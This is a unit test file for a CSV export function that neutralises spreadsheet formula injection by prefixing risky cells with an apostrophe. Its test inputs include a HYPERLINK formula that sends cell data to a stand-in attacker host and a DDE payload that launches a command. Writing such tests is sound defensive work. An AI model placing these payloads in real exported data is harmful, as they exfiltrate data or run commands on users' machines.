import { describe, expect, it } from "vitest";

import { spreadsheetCsv } from "../src/presenters/spreadsheet-csv.ts";

const cell = (value: unknown) => spreadsheetCsv([[value]]).trimEnd();

describe("spreadsheetCsv", () => {
  it.each([
    ["=", '=HYPERLINK("https://evil.example/?"&A1,"open")', `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`],
    ["+", "+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ["-", "-cmd", `"'-cmd"`],
    ["@", "@SUM(1+1)", `"'@SUM(1+1)"`],
    ["TAB", "\t=1+1", `"'\t=1+1"`],
    ["CR", "\r=1+1", `"'\r=1+1"`],
    ["a full-width =", "＝1+1", `"'＝1+1"`],
  ])("neutralises a cell starting with %s", (_, value, written) => {
    expect(cell(value)).toBe(written);
  });

  it("quotes every cell, so a separator inside a value cannot start a formula cell", () => {
    expect(spreadsheetCsv([["a,=1+1", "b", 2.5, ""]])).toBe(`"a,=1+1","b","2.5",\n`);
  });

  it("leaves numbers, including negative ones, as numbers", () => {
    expect(spreadsheetCsv([[-5, 0.25]])).toBe(`"-5","0.25"\n`);
  });
});
